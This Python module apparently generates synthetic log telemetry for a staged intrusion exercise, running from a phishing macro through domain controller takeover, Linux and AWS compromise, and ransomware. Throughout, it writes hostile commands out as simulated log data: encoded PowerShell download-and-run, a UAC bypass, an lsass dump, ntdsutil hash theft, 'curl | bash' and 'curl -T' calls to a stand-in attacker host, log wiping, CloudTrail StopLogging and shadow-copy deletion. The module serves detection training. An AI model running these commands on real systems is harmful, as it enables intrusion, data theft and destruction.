"""The intrusion. `step N` is the step of that number in README.md."""
import base64

from telemetry import (ACCOUNT, ATTACKER, COMMAND_NAME, DOMAIN_SID, HOSTS, KEY_ID, MALWARE,
                       Process, clock)

TERMINAL = "aws-cli/2.22.4 md/awscrt#0.23 ua/2.0 os/linux#6.11.2-kali-amd64"
SCRIPT = "Boto3/1.35.90 md/Botocore#1.35.90 ua/2.0 os/linux lang/python#3.12.7"
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"


def intrude(windows, linux, okta, cloud, shells):
    first = phishing(windows, shells["maria.keller"])
    elevated = look_around_and_rise(windows, first)
    steal_secrets(windows, elevated)
    take_controller(windows, elevated)
    take_linux_host(windows, linux, elevated)
    take_identity(okta)
    take_cloud(cloud)
    destroy(windows, windows.controller_shell)


def phishing(windows, explorer):
    host, maria = "ws-acc-07", explorer.user
    # step 1: a document from the mail, its script, and the program that script fetches
    mail = windows.start(host, "08:40:31", r"C:\Program Files\Microsoft Office\root\Office16"
                         r"\OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle', explorer)
    document = (r"C:\Users\maria.keller\AppData\Local\Microsoft\Windows\INetCache"
                r"\Content.Outlook\8XK2PLQ4\Invoice_8831.docm")
    windows.writes(mail, "08:41:02", document)
    word = windows.start(host, "08:41:07", r"C:\Program Files\Microsoft Office\root\Office16"
                         r"\WINWORD.EXE", f'"WINWORD.EXE" /n "{document}" /o ""', mail)
    script = r"C:\Users\maria.keller\AppData\Roaming\inv8831.js"
    windows.writes(word, "08:41:40", script)
    wscript = windows.start(host, "08:41:43", SYSTEM32 + "wscript.exe",
                            f'wscript.exe //B "{script}"', word)
    windows.resolves(wscript, "08:41:44.2", COMMAND_NAME, ATTACKER)
    windows.connects(wscript, "08:41:44.6", ATTACKER, 443, COMMAND_NAME)
    command = (f"$c=New-Object Net.WebClient;$c.DownloadFile('https://{COMMAND_NAME}/u',"
               f"'{MALWARE}');Start-Process '{MALWARE}'")
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    powershell = windows.start(host, "08:41:47", POWERSHELL,
                               f"powershell.exe -nop -w hidden -enc {encoded}", wscript)
    windows.add(host, clock("08:41:48"), "Microsoft-Windows-PowerShell/Operational", 4104, {
        "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": command,
        "ScriptBlockId": "5d1f7c1e-2c0f-4d0e-9f5e-7a3f0c6b8e11", "Path": ""}, pid=powershell.pid)
    windows.connects(powershell, "08:41:49", ATTACKER, 443, COMMAND_NAME)
    windows.writes(powershell, "08:41:51", MALWARE)
    implant = windows.start(host, "08:41:53", MALWARE, MALWARE, powershell, user=maria,
                            logon=explorer.logon, integrity="Medium")
    windows.connects(implant, "08:41:55", ATTACKER, 443, COMMAND_NAME)
    # step 2: it comes back at every logon
    windows.sets(implant, "08:43:10", "HKU\\" + DOMAIN_SID + "-1104\\SOFTWARE\\Microsoft\\Windows"
                 "\\CurrentVersion\\Run\\ServiceUpdate", MALWARE)
    return implant


def look_around_and_rise(windows, implant):
    host = implant.host
    # step 3: where am I, and who rules here
    shell = windows.start(host, "08:50:02", SYSTEM32 + "cmd.exe", "cmd.exe", implant)
    lines = [("whoami.exe", "whoami /all"), ("ipconfig.exe", "ipconfig /all"),
             ("net.exe", "net user maria.keller /domain"),
             ("net.exe", "net localgroup administrators"),
             ("net.exe", 'net group "Domain Admins" /domain'), ("net.exe", "net view /all"),
             ("nltest.exe", "nltest /domain_trusts /all_trusts"), ("tasklist.exe", "tasklist /v")]
    for number, (image, line) in enumerate(lines):
        child = windows.start(host, clock("08:50:09") + number * 13, SYSTEM32 + image, line, shell)
        windows.end(child, child.second + 0.4)
    # step 4: full rights without a prompt
    windows.sets(implant, "08:57:20", "HKU\\" + DOMAIN_SID + "-1104_Classes\\ms-settings\\shell"
                 "\\open\\command\\(Default)", MALWARE)
    windows.sets(implant, "08:57:20.4", "HKU\\" + DOMAIN_SID + "-1104_Classes\\ms-settings\\shell"
                 "\\open\\command\\DelegateExecute", "(Empty)")
    helper = windows.start(host, "08:57:22", SYSTEM32 + "fodhelper.exe", "fodhelper.exe", implant,
                           user=implant.user, logon="0x3f2b06", integrity="High")
    console = windows.start(host, "08:57:23", SYSTEM32 + "cmd.exe", f"cmd.exe /c {MALWARE}", helper)
    elevated = windows.start(host, "08:57:24", MALWARE, MALWARE, console)
    windows.connects(elevated, "08:57:26", ATTACKER, 443, COMMAND_NAME)
    # step 5: protection off
    windows.start(host, "08:59:01", POWERSHELL,
                  "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", elevated)
    windows.add(host, clock("08:59:03"), "Microsoft-Windows-Windows Defender/Operational", 5001, {
        "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.25010.11"})
    return elevated


def steal_secrets(windows, elevated):
    host = elevated.host
    # step 6: the memory of the local security authority
    dump = r"C:\Users\Public\lsass.dmp"
    rundll = windows.start(host, "09:01:12", SYSTEM32 + "rundll32.exe",
                           f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 688 {dump} full",
                           elevated)
    windows.sysmon(host, clock("09:01:13"), 10, {
        "SourceProcessGUID": rundll.guid, "SourceProcessId": rundll.pid, "SourceThreadId": 5120,
        "SourceImage": rundll.image, "TargetProcessGUID": windows.lsass[host].guid,
        "TargetProcessId": windows.lsass[host].pid, "TargetImage": windows.lsass[host].image,
        "GrantedAccess": "0x1fffff",
        "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\KERNELBASE.dll+2bcbe"
                     r"|C:\Windows\System32\comsvcs.dll+26d11",
        "SourceUser": rundll.user, "TargetUser": r"NT AUTHORITY\SYSTEM"})
    windows.writes(rundll, "09:01:14", dump)


def take_controller(windows, elevated):
    # step 7: the administrator's credentials carry a service to the domain controller
    source, target, user = elevated.host, "dc01", "adm.weber"
    address, logon = HOSTS[source], "0x5a1c77"
    tool = windows.start(source, "09:10:02", r"C:\Users\Public\ps.exe",
                         r"ps.exe \\dc01 -accepteula -s cmd.exe", elevated, original="psexec.c")
    windows.security(source, "09:10:03", 4648, {
        "SubjectUserSid": DOMAIN_SID + "-1104", "SubjectUserName": "maria.keller",
        "SubjectDomainName": "EXAMPLE", "SubjectLogonId": elevated.logon,
        "TargetUserName": user, "TargetDomainName": "EXAMPLE",
        "TargetServerName": "dc01.corp.example.com", "TargetInfo": "cifs/dc01.corp.example.com",
        "ProcessId": hex(tool.pid), "ProcessName": tool.image, "IpAddress": HOSTS[target],
        "IpPort": "445"})
    windows.connects(tool, "09:10:03.2", HOSTS[target], 445, "dc01.corp.example.com")
    windows.logon(target, "09:10:03.6", user, 3, address, logon)
    windows.security(target, "09:10:03.6", 4672, {
        "SubjectUserSid": DOMAIN_SID + "-1102", "SubjectUserName": user,
        "SubjectDomainName": "EXAMPLE", "SubjectLogonId": logon,
        "PrivilegeList": "SeBackupPrivilege\r\n\t\t\tSeDebugPrivilege"})
    windows.security(target, "09:10:04", 5145, {
        "SubjectUserSid": DOMAIN_SID + "-1102", "SubjectUserName": user,
        "SubjectDomainName": "EXAMPLE", "SubjectLogonId": logon, "ObjectType": "File",
        "IpAddress": address, "IpPort": "50917", "ShareName": r"\\*\ADMIN$",
        "ShareLocalPath": r"\??\C:\Windows", "RelativeTargetName": "PSEXESVC.exe",
        "AccessMask": "0x2", "AccessList": "%%4417\r\n\t\t\t\t"})
    kernel = windows.services[target]
    windows.writes(Process(target, clock("09:10:04"), "System", ""), "09:10:04.3",
                   r"C:\Windows\PSEXESVC.exe")
    windows.add(target, clock("09:10:05"), "System", 7045, {
        "ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe",
        "ServiceType": "user mode service", "StartType": "demand start",
        "AccountName": "LocalSystem"}, pid=kernel.pid)
    service = windows.start(target, "09:10:05.4", r"C:\Windows\PSEXESVC.exe",
                            r"C:\Windows\PSEXESVC.exe", kernel, original="psexesvc.exe")
    shell = windows.start(target, "09:10:06", SYSTEM32 + "cmd.exe", "cmd.exe", service)
    windows.controller_shell = shell
    # step 8: every password hash of the domain, and an account of their own
    windows.start(target, "09:13:40", SYSTEM32 + "ntdsutil.exe",
                  r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\i" q q', shell)
    windows.start(target, "09:16:02", SYSTEM32 + "net.exe",
                  "net user svc-health Wint3r#2026 /add /domain", shell)
    subject = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "DC01$",
               "SubjectDomainName": "EXAMPLE", "SubjectLogonId": "0x3e7"}
    windows.security(target, "09:16:02.5", 4720, {
        "TargetUserName": "svc-health", "TargetDomainName": "EXAMPLE",
        "TargetSid": DOMAIN_SID + "-1191", **subject, "SamAccountName": "svc-health"})
    windows.start(target, "09:16:20", SYSTEM32 + "net.exe",
                  'net group "Domain Admins" svc-health /add /domain', shell)
    windows.security(target, "09:16:20.5", 4728, {
        "MemberName": "CN=svc-health,CN=Users,DC=corp,DC=example,DC=com",
        "MemberSid": DOMAIN_SID + "-1191", "TargetUserName": "Domain Admins",
        "TargetDomainName": "EXAMPLE", "TargetSid": DOMAIN_SID + "-512", **subject})


def take_linux_host(windows, linux, elevated):
    # step 9: over SSH from the workstation, with a password found on it
    source = HOSTS["ws-acc-07"]
    for number, when in enumerate(("09:21:40", "09:21:47", "09:21:55")):
        windows.connects(elevated, when, HOSTS["build01"], 22)
        linux.log(when, "sshd", f"Failed password for deploy from {source} "
                  f"port {50931 + number} ssh2", 2980 + number)
    windows.connects(elevated, "09:22:12", HOSTS["build01"], 22)
    linux.log("09:22:14", "sshd", f"Accepted password for deploy from {source} port 50940 ssh2",
              2990)
    linux.log("09:22:14.1", "sshd",
              "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", 2990)
    home = "/home/deploy"
    login = linux.runs("09:22:14.4", "/usr/bin/bash", ["-bash"], uid=1001, parent=2990, folder=home)
    mine = {"uid": 1001, "parent": login, "folder": home}
    linux.runs("09:22:31", "/usr/bin/id", ["id"], **mine)
    linux.runs("09:22:50", "/usr/bin/cat", ["cat", home + "/.aws/credentials"], **mine)
    linux.log("09:23:30", "sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; "
              "COMMAND=/usr/bin/bash")
    linux.log("09:23:30.1", "sudo",
              "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)")
    sudo = linux.runs("09:23:30", "/usr/bin/sudo", ["sudo", "/usr/bin/bash"], parent=login,
                      folder=home)
    root = linux.runs("09:23:30.2", "/usr/bin/bash", ["/usr/bin/bash"], parent=sudo, folder=home)
    reader = linux.runs("09:24:02", "/usr/bin/cat", ["cat", "/etc/shadow"], parent=root)
    linux.opens("09:24:02.1", "/usr/bin/cat", "/etc/shadow", reader, root)
    # step 10: a way back in, and traces gone
    linux.runs("09:24:41", "/usr/bin/bash",
               ["bash", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample op "
                              ">> /root/.ssh/authorized_keys"], parent=root)
    loader = linux.runs("09:25:20", "/usr/bin/bash",
                        ["bash", "-c", f"curl -fsSL http://{ATTACKER}/l.sh | bash"], parent=root)
    linux.runs("09:25:21", "/usr/bin/curl", ["curl", "-fsSL", f"http://{ATTACKER}/l.sh"],
               parent=loader)
    linux.runs("09:26:30", "/usr/bin/tar",
               ["tar", "czf", "/tmp/.b.tgz", "/srv/build", "/root/.ssh"], parent=root)
    linux.runs("09:27:02", "/usr/bin/curl", ["curl", "-T", "/tmp/.b.tgz", f"https://{ATTACKER}/u/"],
               parent=root)
    linux.runs("09:28:10", "/usr/bin/shred", ["shred", "-u", "/var/log/auth.log"], parent=root)


def take_identity(okta):
    # step 11: the stolen password at the sign-in service, and pushes until one is accepted
    user = "maria.keller"
    okta.add("09:30:05", "user.session.start", "User login to Okta", user, ATTACKER)
    for number in range(5):
        okta.add(clock("09:30:20") + number * 41, "user.mfa.okta_verify.deny_push",
                 "User rejected Okta push verify", user, ATTACKER, "FAILURE",
                 "USER_REJECTED_OKTA_VERIFY")
    okta.add("09:34:02", "user.authentication.auth_via_mfa", "Authentication of user via MFA",
             user, ATTACKER)
    okta.add("09:34:20", "user.authentication.sso", "User single sign on to app", user, ATTACKER,
             target="AWS IAM Identity Center")


def take_cloud(cloud):
    # step 12: the key from the Linux host, used from the attacker's own address
    def call(when, source, name, parameters=None, error=None, response=None, agent=SCRIPT):
        cloud.add(when, source, name, "deploy", ATTACKER, KEY_ID, parameters, response, error,
                  agent)

    call("09:36:11", "sts.amazonaws.com", "GetCallerIdentity", agent=TERMINAL)
    for number, (source, name) in enumerate([
            ("iam", "ListUsers"), ("iam", "ListRoles"), ("ec2", "DescribeInstances"),
            ("rds", "DescribeDBInstances"), ("lambda", "ListFunctions20150331"),
            ("eks", "ListClusters"), ("kms", "ListKeys"), ("organizations", "ListAccounts"),
            ("ssm", "DescribeInstanceInformation")]):
        call(clock("09:36:30") + number * 4, source + ".amazonaws.com", name, error="AccessDenied")
    for number in range(8):
        call(clock("09:38:02") + number * 6, "secretsmanager.amazonaws.com", "GetSecretValue",
             {"secretId": f"prod/build/service-{number + 1}"})
    call("09:39:40", "iam.amazonaws.com", "CreateAccessKey", {"userName": "backup-svc"},
         response={"accessKey": {"userName": "backup-svc", "accessKeyId": "AKIAEXAMPLE7BACKUP00",
                                 "status": "Active"}})
    call("09:39:58", "iam.amazonaws.com", "AttachUserPolicy",
         {"userName": "backup-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    # step 13: blind the account, take the data, spoil what is left
    call("09:41:10", "cloudtrail.amazonaws.com", "StopLogging",
         {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCOUNT}:trail/main"})
    bucket = {"bucketName": "example-finance-archive"}
    call("09:41:30", "s3.amazonaws.com", "ListObjects", bucket, agent=TERMINAL)
    for number in range(40):
        call(clock("09:41:40") + number * 3, "s3.amazonaws.com", "GetObject",
             {**bucket, "key": f"2025/ledger-{number + 1:03}.parquet"})
    call("09:44:02", "s3.amazonaws.com", "PutBucketVersioning",
         {**bucket, "VersioningConfiguration": {"Status": "Suspended"}})
    for number in range(60):
        call(clock("09:44:10") + number * 2, "s3.amazonaws.com", "DeleteObject",
             {**bucket, "key": f"2025/ledger-{number + 1:03}.parquet"})


def destroy(windows, shell):
    # step 14: data out of the server, its recovery removed, its files encrypted
    host = shell.host
    windows.start(host, "09:46:02", r"C:\Windows\Temp\wsync.exe",
                  r"wsync.exe copy D:\Shares\finance drop:fin --transfers 16", shell,
                  original="rclone.exe")
    for number, name in enumerate(("VeeamBackupSvc", "VeeamCatalogSvc", "MSSQLSERVER",
                                   "SQLSERVERAGENT", "SQLWriter")):
        windows.start(host, clock("09:50:01") + number * 2, SYSTEM32 + "net.exe",
                      f"net stop {name} /y", shell)
    windows.start(host, "09:50:30", SYSTEM32 + "vssadmin.exe",
                  "vssadmin.exe delete shadows /all /quiet", shell)
    windows.start(host, "09:50:36", SYSTEM32 + "bcdedit.exe",
                  "bcdedit.exe /set {default} recoveryenabled no", shell)
    locker = windows.start(host, "09:51:02", r"C:\Windows\Temp\svcupd.exe",
                           r"C:\Windows\Temp\svcupd.exe --all", shell)
    for number in range(14):
        windows.writes(locker, clock("09:51:10") + number * 3,
                       rf"D:\Shares\finance\dept-{number + 1:02}\HOW_TO_RESTORE_FILES.txt")
    windows.add(host, clock("09:54:40"), "Security", 1102, {"LogFileCleared": {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM",
        "SubjectDomainName": "NT AUTHORITY", "SubjectLogonId": "0x3e7"}},
        provider="Microsoft-Windows-Eventlog")
